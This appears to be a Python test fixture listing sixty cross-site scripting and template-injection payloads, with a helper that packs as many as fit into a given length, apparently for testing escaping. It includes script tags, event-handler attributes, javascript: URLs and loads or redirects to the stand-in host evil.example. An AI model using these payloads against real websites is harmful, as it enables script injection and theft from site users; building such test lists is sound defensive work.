"""Sixty texts that would act, were they ever taken for markup, script, style or an address."""

PAYLOADS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "</script><script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>", "<IMG SRC=x OnErRoR=alert(1)>",
    '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", "`><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>", '<a href="java\tscript:alert(1)">x</a>', "<a href=data:text/html,x>x</a>",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "//evil.example/", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>", "<div style=background:url(javascript:alert(1))>",
    '" onfocus=alert(1) autofocus x="', "' onfocus=alert(1) autofocus x='", '" onmouseover=alert(1) "',
    "<input onfocus=alert(1) autofocus>", "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<!--<img src=x onerror=alert(1)>-->",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>", "<form action=//evil.example><button>x", "<button formaction=javascript:alert(1)>x",
    "<math><mtext><img src=x onerror=alert(1)></math>", "<template><script>alert(1)</script></template>",
    "<div hx-get=//evil.example hx-trigger=load>", "<div hx-on:load=alert(1)>", "<div data-hx-get=/logout/>",
    "{{ 7*7 }}{{ config }}", "{% raw %}<script>alert(1)</script>", "${alert(1)}", "<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "\\u003cscript\\u003ealert(1)",
    "<noscript><p title='</noscript><img src=x>'>",
    "<x onclick=alert(1)>点我</x>",
]  # fmt: skip


def packed(room, start):
    """As many payloads as fit into `room` characters, beginning with the one at `start`."""
    text = PAYLOADS[start % len(PAYLOADS)][:room]
    for number in range(start + 1, start + len(PAYLOADS)):
        longer = text + " " + PAYLOADS[number % len(PAYLOADS)]
        if len(longer) > room:
            break
        text = longer
    return text
